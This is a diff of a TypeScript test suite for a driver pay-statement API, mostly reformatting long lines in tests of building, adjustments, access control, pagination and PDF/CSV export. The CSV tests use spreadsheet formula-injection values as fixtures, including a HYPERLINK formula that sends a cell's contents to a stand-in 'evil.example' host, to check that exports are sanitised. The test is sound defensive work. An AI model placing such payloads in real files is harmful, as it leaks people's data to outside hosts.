@@ -26,11 +26,19 @@ const ZONE = DEFAULT_COMPANY.timeZone;
 const at = (local: string) => new Date(zonedLocalToIso(local, ZONE));
 const call = (method: 'GET' | 'POST', url: string, payload?: object, who: SignedIn = admin) =>
   t.app.inject({ method, url, headers: who.cookie ? { cookie: who.cookie } : {}, ...(payload && { payload }) });
-const build = (driverId: string, periodFrom = '2026-11-23', periodTo = '2026-11-29') => call('POST', '/api/pay-statements', { driverId, periodFrom, periodTo });
+const build = (driverId: string, periodFrom = '2026-11-23', periodTo = '2026-11-29') =>
+  call('POST', '/api/pay-statements', { driverId, periodFrom, periodTo });
 
 /** A trip the driver finished at this wall time on the company clock, paid at `rate`. */
 const completed = (driverId: string, local: string, rate: string) =>
-  makeJob(t.database.db, { assignedDriverId: driverId, status: 'completed', jobRate: rate, pickupTime: at(local), dropoffTime: new Date(at(local).getTime() + 30 * 60_000), completedAt: new Date(at(local).getTime() + 30 * 60_000) });
+  makeJob(t.database.db, {
+    assignedDriverId: driverId,
+    status: 'completed',
+    jobRate: rate,
+    pickupTime: at(local),
+    dropoffTime: new Date(at(local).getTime() + 30 * 60_000),
+    completedAt: new Date(at(local).getTime() + 30 * 60_000),
+  });
 
 async function newDriver() {
   return signedIn(t.app, t.database.db, 'driver');
@@ -43,16 +51,41 @@ describe('building a statement', () => {
     const id = driver.driverId!;
     // Finished at 23:45 on Wednesday 25 November, company time (already Thursday in UTC).
     const late = await completed(id, '2026-11-25T23:15', '42.50');
-    const noShow = await makeJob(t.database.db, { assignedDriverId: id, status: 'no_show', jobRate: '30.10', pickupTime: at('2026-11-24T09:00'), noShowAt: at('2026-11-24T09:20') });
-    await makeJob(t.database.db, { assignedDriverId: id, status: 'cancelled', jobRate: '55.00', pickupTime: at('2026-11-24T13:00'), cancelledAt: at('2026-11-24T08:00') });
-    await makeJob(t.database.db, { assignedDriverId: id, status: 'accepted', jobRate: '55.00', pickupTime: at('2026-11-26T13:00') });
+    const noShow = await makeJob(t.database.db, {
+      assignedDriverId: id,
+      status: 'no_show',
+      jobRate: '30.10',
+      pickupTime: at('2026-11-24T09:00'),
+      noShowAt: at('2026-11-24T09:20'),
+    });
+    await makeJob(t.database.db, {
+      assignedDriverId: id,
+      status: 'cancelled',
+      jobRate: '55.00',
+      pickupTime: at('2026-11-24T13:00'),
+      cancelledAt: at('2026-11-24T08:00'),
+    });
+    await makeJob(t.database.db, {
+      assignedDriverId: id,
+      status: 'accepted',
+      jobRate: '55.00',
+      pickupTime: at('2026-11-26T13:00'),
+    });
     await completed(id, '2026-11-30T10:00', '61.00'); // after the period
     await completed(other.driverId!, '2026-11-25T10:00', '77.00'); // another driver's
 
     const res = await build(id);
     expect(res.statusCode, res.body).toBe(201);
     const s = res.json<PayStatement>();
-    expect(s).toMatchObject({ driverId: id, status: 'draft', periodFrom: '2026-11-23', periodTo: '2026-11-29', total: '72.60', linesTotal: '72.60', adjustmentsTotal: '0.00' });
+    expect(s).toMatchObject({
+      driverId: id,
+      status: 'draft',
+      periodFrom: '2026-11-23',
+      periodTo: '2026-11-29',
+      total: '72.60',
+      linesTotal: '72.60',
+      adjustmentsTotal: '0.00',
+    });
     expect(s.number).toMatch(/^PAY-\d{6}$/);
     expect(s.lines.map((l) => [l.jobId, l.amount, l.completedOn, l.dueOn])).toEqual([
       [noShow.id, '30.10', '2026-11-24', '2026-12-15'],
@@ -74,9 +107,17 @@ describe('building a statement', () => {
   it('refuses bad fields and a period with nothing to pay, writing nothing', async () => {
     const driver = await newDriver();
     const before = await t.database.db.$count(payStatements);
-    const bad = await call('POST', '/api/pay-statements', { driverId: 'nobody', periodFrom: '2026-02-30', periodTo: '' });
+    const bad = await call('POST', '/api/pay-statements', {
+      driverId: 'nobody',
+      periodFrom: '2026-02-30',
+      periodTo: '',
+    });
     expect(bad.statusCode).toBe(400);
-    expect(bad.json().fieldErrors).toMatchObject({ driverId: 'Choose a driver', periodFrom: 'Period start must be a valid date', periodTo: 'Period end is required' });
+    expect(bad.json().fieldErrors).toMatchObject({
+      driverId: 'Choose a driver',
+      periodFrom: 'Period start must be a valid date',
+      periodTo: 'Period end is required',
+    });
     const backwards = await build(driver.driverId!, '2026-11-29', '2026-11-23');
     expect(backwards.statusCode).toBe(400);
     expect(backwards.json().fieldErrors).toEqual({ periodTo: 'Period end must be on or after its start' });
@@ -85,7 +126,10 @@ describe('building a statement', () => {
     expect(unknown.json().fieldErrors).toEqual({ driverId: 'No such driver' });
     const nothing = await build(driver.driverId!);
     expect(nothing.statusCode).toBe(422);
-    expect(nothing.json()).toEqual({ message: 'No completed trips to pay for this driver and period', reasons: ['nothing_to_pay'] });
+    expect(nothing.json()).toEqual({
+      message: 'No completed trips to pay for this driver and period',
+      reasons: ['nothing_to_pay'],
+    });
     expect(await t.database.db.$count(payStatements)).toBe(before);
     expect((await call('GET', '/api/pay-statements/6d1f7b0e-2f59-4a55-9d5c-0a0cfa0c7c11')).statusCode).toBe(404);
   });
@@ -94,7 +138,8 @@ describe('building a statement', () => {
     const driver = await newDriver();
     const rates = ['31.15', '42.07', '18.99', '55.00', '23.45', '64.31'];
     const made = [];
-    for (const [i, rate] of rates.entries()) made.push(await completed(driver.driverId!, `2026-11-2${3 + (i % 5)}T1${i}:00`, rate));
+    for (const [i, rate] of rates.entries())
+      made.push(await completed(driver.driverId!, `2026-11-2${3 + (i % 5)}T1${i}:00`, rate));
     const answers = await Promise.all([build(driver.driverId!), build(driver.driverId!)]);
     const built = answers.filter((r) => r.statusCode === 201).map((r) => r.json<PayStatement>());
     for (const r of answers) if (r.statusCode !== 201) expect(r.json().reasons).toEqual(['nothing_to_pay']);
@@ -102,7 +147,15 @@ describe('building a statement', () => {
     const jobIds = built.flatMap((s) => s.lines.map((l) => l.jobId));
     expect(jobIds.sort()).toEqual(made.map((j) => j.id).sort());
     expect(sumCents(built.map((s) => centsOf(s.total)))).toBe(sumCents(rates.map((r) => centsOf(r))));
-    const stored = await t.database.db.select().from(payStatementLines).where(inArray(payStatementLines.jobId, made.map((j) => j.id)));
+    const stored = await t.database.db
+      .select()
+      .from(payStatementLines)
+      .where(
+        inArray(
+          payStatementLines.jobId,
+          made.map((j) => j.id),
+        ),
+      );
     expect(stored).toHaveLength(rates.length);
   });
 });
@@ -112,18 +165,27 @@ describe('adjustments and statuses', () => {
     const driver = await newDriver();
     await completed(driver.driverId!, '2026-11-24T10:00', '100.00');
     const s = (await build(driver.driverId!)).json<PayStatement>();
-    const toll = await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'Turnpike toll repaid', amount: '12.35' });
+    const toll = await call('POST', `/api/pay-statements/${s.id}/adjustments`, {
+      description: 'Turnpike toll repaid',
+      amount: '12.35',
+    });
     expect(toll.statusCode, toll.body).toBe(201);
     expect(toll.json<PayStatement>()).toMatchObject({ total: '112.35', adjustmentsTotal: '12.35' });
     expect((await call('POST', `/api/pay-statements/${s.id}/issue`)).json()).toMatchObject({ status: 'issued' });
-    const advance = await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'Fuel advance recovered', amount: '-40.00' });
+    const advance = await call('POST', `/api/pay-statements/${s.id}/adjustments`, {
+      description: 'Fuel advance recovered',
+      amount: '-40.00',
+    });
     expect(advance.json<PayStatement>()).toMatchObject({ total: '72.35', adjustmentsTotal: '-27.65' });
 
     const before = await t.database.db.$count(payAdjustments, eq(payAdjustments.statementId, s.id));
     const bad = await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'x', amount: '0' });
     expect(bad.statusCode).toBe(400);
     expect(Object.keys(bad.json().fieldErrors).sort()).toEqual(['amount', 'description']);
-    const tooMuch = await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'Damage deposit', amount: '-72.36' });
+    const tooMuch = await call('POST', `/api/pay-statements/${s.id}/adjustments`, {
+      description: 'Damage deposit',
+      amount: '-72.36',
+    });
     expect(tooMuch.statusCode).toBe(422);
     expect(tooMuch.json().fieldErrors).toEqual({ amount: 'This deduction would take the total below zero' });
     expect(await t.database.db.$count(payAdjustments, eq(payAdjustments.statementId, s.id))).toBe(before);
@@ -132,10 +194,15 @@ describe('adjustments and statuses', () => {
     expect(future.json().fieldErrors).toEqual({ paidOn: 'Paid date cannot be in the future' });
     const paid = await call('POST', `/api/pay-statements/${s.id}/paid`, { paidOn: '2026-11-25' });
     expect(paid.json()).toMatchObject({ status: 'paid', paidOn: '2026-11-25', total: '72.35' });
-    expect((await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'Late toll', amount: '5.00' })).statusCode).toBe(409);
+    expect(
+      (await call('POST', `/api/pay-statements/${s.id}/adjustments`, { description: 'Late toll', amount: '5.00' }))
+        .statusCode,
+    ).toBe(409);
     expect((await call('POST', `/api/pay-statements/${s.id}/void`)).statusCode).toBe(409);
     expect((await call('POST', `/api/pay-statements/${s.id}/issue`)).statusCode).toBe(409);
-    const listed = (await call('GET', `/api/pay-statements?driverId=${driver.driverId!}&status=paid`)).json<Page<PayStatementSummary>>();
+    const listed = (await call('GET', `/api/pay-statements?driverId=${driver.driverId!}&status=paid`)).json<
+      Page<PayStatementSummary>
+    >();
     expect(listed.items.map((x) => [x.id, x.total])).toEqual([[s.id, '72.35']]);
     expect(listed.nextCursor).toBeNull();
   });
@@ -167,15 +234,27 @@ describe("the driver's own statements", () => {
 
     const mine = await call('GET', '/api/drivers/me/pay-statements', undefined, driver);
     expect(mine.statusCode).toBe(200);
-    expect(mine.json<Page<PayStatementSummary>>().items.map((s) => [s.id, s.total, s.status])).toEqual([[issued.id, '60.00', 'issued']]);
-    expect((await call('GET', `/api/pay-statements/${issued.id}`, undefined, driver)).json()).toMatchObject({ id: issued.id, total: '60.00' });
-    for (const url of [`/api/pay-statements/${draft.id}`, `/api/pay-statements/${draft.id}/statement.pdf`, `/api/pay-statements/${draft.id}/statement.csv`]) {
+    expect(mine.json<Page<PayStatementSummary>>().items.map((s) => [s.id, s.total, s.status])).toEqual([
+      [issued.id, '60.00', 'issued'],
+    ]);
+    expect((await call('GET', `/api/pay-statements/${issued.id}`, undefined, driver)).json()).toMatchObject({
+      id: issued.id,
+      total: '60.00',
+    });
+    for (const url of [
+      `/api/pay-statements/${draft.id}`,
+      `/api/pay-statements/${draft.id}/statement.pdf`,
+      `/api/pay-statements/${draft.id}/statement.csv`,
+    ]) {
       expect((await call('GET', url, undefined, driver)).statusCode).toBe(404);
     }
     for (const url of [`/api/pay-statements/${issued.id}`, `/api/pay-statements/${issued.id}/statement.pdf`]) {
       expect((await call('GET', url, undefined, other)).statusCode).toBe(404);
     }
-    expect((await call('GET', '/api/drivers/me/pay-statements', undefined, other)).json()).toEqual({ items: [], nextCursor: null });
+    expect((await call('GET', '/api/drivers/me/pay-statements', undefined, other)).json()).toEqual({
+      items: [],
+      nextCursor: null,
+    });
     expect((await call('GET', '/api/pay-statements', undefined, driver)).statusCode).toBe(403);
   });
 });
@@ -185,7 +264,12 @@ async function allPages(url: string, limit: number, who: SignedIn = admin) {
   const pages: Page<PayStatementSummary>[] = [];
   let cursor: string | null = null;
   do {
-    const res = await call('GET', `${url}&limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`, undefined, who);
+    const res = await call(
+      'GET',
+      `${url}&limit=${limit}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
+      undefined,
+      who,
+    );
     expect(res.statusCode, res.body).toBe(200);
     const page = res.json<Page<PayStatementSummary>>();
     pages.push(page);
@@ -215,11 +299,13 @@ describe('the lists are paged (docs/decisions/035-paginated-lists.md)', () => {
     // Unfiltered, the first page starts with the statement built last and the next page repeats none of it.
     const first = (await call('GET', '/api/pay-statements?limit=2')).json<Page<PayStatementSummary>>();
     expect(first.items.map((s) => s.id)).toEqual([built[4], built[3]]);
-    const next = (await call('GET', `/api/pay-statements?limit=2&cursor=${encodeURIComponent(first.nextCursor!)}`)).json<Page<PayStatementSummary>>();
+    const next = (
+      await call('GET', `/api/pay-statements?limit=2&cursor=${encodeURIComponent(first.nextCursor!)}`)
+    ).json<Page<PayStatementSummary>>();
     expect(next.items[0]!.id).toBe(built[2]);
   });
 
-  it("gives a driver their own issued and paid statements the same way, drafts left out", async () => {
+  it('gives a driver their own issued and paid statements the same way, drafts left out', async () => {
     const driver = await newDriver();
     const shown: string[] = [];
     for (const [i, day] of ['2026-11-23', '2026-11-24', '2026-11-25', '2026-11-26'].entries()) {
@@ -236,12 +322,21 @@ describe('the lists are paged (docs/decisions/035-paginated-lists.md)', () => {
 
   it('refuses a cursor it did not write and a limit out of range (400)', async () => {
     const driver = await newDriver();
-    for (const url of ['/api/pay-statements?cursor=not-a-cursor', `/api/pay-statements?cursor=${Buffer.from('yesterday|nobody').toString('base64url')}`, '/api/pay-statements?limit=0', '/api/pay-statements?limit=101']) {
+    for (const url of [
+      '/api/pay-statements?cursor=not-a-cursor',
+      `/api/pay-statements?cursor=${Buffer.from('yesterday|nobody').toString('base64url')}`,
+      '/api/pay-statements?limit=0',
+      '/api/pay-statements?limit=101',
+    ]) {
       const res = await call('GET', url);
       expect(res.statusCode, url).toBe(400);
     }
-    expect((await call('GET', '/api/pay-statements?cursor=not-a-cursor')).json().message).toBe('The page cursor is not valid');
-    expect((await call('GET', '/api/drivers/me/pay-statements?cursor=not-a-cursor', undefined, driver)).statusCode).toBe(400);
+    expect((await call('GET', '/api/pay-statements?cursor=not-a-cursor')).json().message).toBe(
+      'The page cursor is not valid',
+    );
+    expect(
+      (await call('GET', '/api/drivers/me/pay-statements?cursor=not-a-cursor', undefined, driver)).statusCode,
+    ).toBe(400);
   });
 });
 
@@ -251,7 +346,10 @@ describe('the PDF and the CSV', () => {
     await completed(driver.driverId!, '2026-11-23T09:00', '1240.50');
     await completed(driver.driverId!, '2026-11-25T09:00', '37.05');
     const built = (await build(driver.driverId!)).json<PayStatement>();
-    await call('POST', `/api/pay-statements/${built.id}/adjustments`, { description: '=HYPERLINK("http://evil")', amount: '-12.30' });
+    await call('POST', `/api/pay-statements/${built.id}/adjustments`, {
+      description: '=HYPERLINK("http://evil")',
+      amount: '-12.30',
+    });
     await call('POST', `/api/pay-statements/${built.id}/issue`);
     const s = (await call('GET', `/api/pay-statements/${built.id}`, undefined, driver)).json<PayStatement>();
     expect(s.total).toBe('1265.25');
@@ -283,7 +381,10 @@ describe('the PDF and the CSV', () => {
     const fullName = '\n=HYPERLINK("https://evil.example/?q="&C2,"Open chart\nrecord")';
     const driver = await makeDriver(t.database.db, { status: 'approved', fullName });
     const id = await payStatementOf(t.app, t.database.db, admin.cookie!, driver.id);
-    const adjusted = await call('POST', `/api/pay-statements/${id}/adjustments`, { description: '@SUM(A1:A9)\nfuel advance', amount: '-25.00' });
+    const adjusted = await call('POST', `/api/pay-statements/${id}/adjustments`, {
+      description: '@SUM(A1:A9)\nfuel advance',
+      amount: '-25.00',
+    });
     expect(adjusted.statusCode, adjusted.body).toBe(201);
     const csv = await call('GET', `/api/pay-statements/${id}/statement.csv`);
     expect(csv.statusCode).toBe(200);
